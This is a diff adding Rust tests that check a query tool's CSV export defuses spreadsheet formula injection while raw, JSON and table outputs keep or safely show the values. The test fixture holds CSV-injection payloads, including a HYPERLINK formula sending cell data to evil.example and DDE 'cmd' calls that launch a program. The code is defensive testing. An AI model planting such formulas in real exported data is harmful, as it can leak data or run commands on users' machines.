@@ -309,3 +309,161 @@ fn a_missing_archive_is_a_database_error() {
     );
     assert_eq!(out.status.code(), Some(5));
 }
+
+/// Events whose user-controlled fields a spreadsheet would run as formulas
+/// (OWASP "CSV Injection"): = + - @, a leading tab and a leading CR.
+fn hostile() -> Archive {
+    let mut a = ev("s", 0)
+        .user_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
+        .desc("+1+cmd|' /C calc'!A0");
+    a.0["user_agent"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+    let mut b = ev("fp", 60).user_name("-2+3").desc("\tleading tab");
+    b.0["user_agent"] = json!("\rcarriage return");
+    let mut c = ev("s", 120)
+        .user_name("a=b@example.com")
+        .desc("Successful login");
+    c.0["user_agent"] = json!("Mozilla/5.0");
+    archive(&[a, b, c])
+}
+
+const HOSTILE_SQL: &str = "SELECT user_name, description, user_agent, -5 AS n, -1.5 AS r, '-5' AS t FROM events ORDER BY ts";
+
+#[test]
+fn csv_defuses_spreadsheet_formulas_in_text_but_keeps_numbers() {
+    let a = hostile();
+    let expected = "user_name,description,user_agent,n,r,t\r\n\
+        \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'+1+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,-5,-1.5,'-5\r\n\
+        '-2+3,'\tleading tab,\"'\rcarriage return\",-5,-1.5,'-5\r\n\
+        a=b@example.com,Successful login,Mozilla/5.0,-5,-1.5,'-5\r\n";
+    for engine in ["sqlite", "duckdb"] {
+        let explicit = ok(&cli(
+            &a.db,
+            &[
+                "query",
+                "sql",
+                HOSTILE_SQL,
+                "--format",
+                "csv",
+                "--engine",
+                engine,
+            ],
+        ));
+        assert_eq!(explicit, expected, "{engine}");
+        // Off a terminal CSV is the default, and it is the safe one.
+        let default = ok(&cli(
+            &a.db,
+            &["query", "sql", HOSTILE_SQL, "--engine", engine],
+        ));
+        assert_eq!(default, expected, "{engine}");
+    }
+    // Column names come from the statement: they are cells too.
+    let header = ok(&cli(
+        &a.db,
+        &[
+            "query",
+            "sql",
+            "SELECT 1 AS \"=cmd\", 2 AS \"ok\"",
+            "--format",
+            "csv",
+        ],
+    ));
+    assert_eq!(header, "'=cmd,ok\r\n1,2\r\n");
+}
+
+#[test]
+fn csv_raw_json_and_ndjson_keep_every_value_exact() {
+    let a = hostile();
+    let lite = rusqlite::Connection::open(&a.db).unwrap();
+    let stored: Vec<(String, String, String)> = lite
+        .prepare("SELECT user_name, description, user_agent FROM events ORDER BY ts")
+        .unwrap()
+        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(stored[1].2, "\rcarriage return");
+    for engine in ["sqlite", "duckdb"] {
+        let raw = ok(&cli(
+            &a.db,
+            &[
+                "query",
+                "sql",
+                HOSTILE_SQL,
+                "--format",
+                "csv-raw",
+                "--engine",
+                engine,
+            ],
+        ));
+        assert_eq!(
+            raw,
+            "user_name,description,user_agent,n,r,t\r\n\
+             \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",+1+cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-5,-1.5,-5\r\n\
+             -2+3,\tleading tab,\"\rcarriage return\",-5,-1.5,-5\r\n\
+             a=b@example.com,Successful login,Mozilla/5.0,-5,-1.5,-5\r\n",
+            "{engine}"
+        );
+        for format in ["json", "ndjson"] {
+            let out = ok(&cli(
+                &a.db,
+                &[
+                    "query",
+                    "sql",
+                    HOSTILE_SQL,
+                    "--format",
+                    format,
+                    "--engine",
+                    engine,
+                ],
+            ));
+            let rows: Vec<Value> = if format == "json" {
+                serde_json::from_str::<Value>(&out)
+                    .unwrap()
+                    .as_array()
+                    .unwrap()
+                    .clone()
+            } else {
+                out.lines()
+                    .map(|l| serde_json::from_str(l).unwrap())
+                    .collect()
+            };
+            let got: Vec<(String, String, String)> = rows
+                .iter()
+                .map(|r| {
+                    assert_eq!(r["n"], json!(-5), "{engine} {format}");
+                    assert_eq!(r["r"], json!(-1.5), "{engine} {format}");
+                    assert_eq!(r["t"], json!("-5"), "{engine} {format}");
+                    (
+                        r["user_name"].as_str().unwrap().to_string(),
+                        r["description"].as_str().unwrap().to_string(),
+                        r["user_agent"].as_str().unwrap().to_string(),
+                    )
+                })
+                .collect();
+            assert_eq!(got, stored, "{engine} {format}");
+        }
+    }
+}
+
+#[test]
+fn the_table_shows_text_as_stored_for_a_terminal() {
+    let a = hostile();
+    let table = ok(&cli(
+        &a.db,
+        &[
+            "query",
+            "sql",
+            "SELECT user_name, description FROM events ORDER BY ts",
+            "--format",
+            "table",
+        ],
+    ));
+    assert!(
+        table.contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+        "{table}"
+    );
+    assert!(table.contains("+1+cmd|' /C calc'!A0"), "{table}");
+    assert!(!table.contains("'="), "{table}");
+    // Control characters never reach the terminal.
+    assert!(!table.contains('\t') && !table.contains('\r'), "{table:?}");
+}
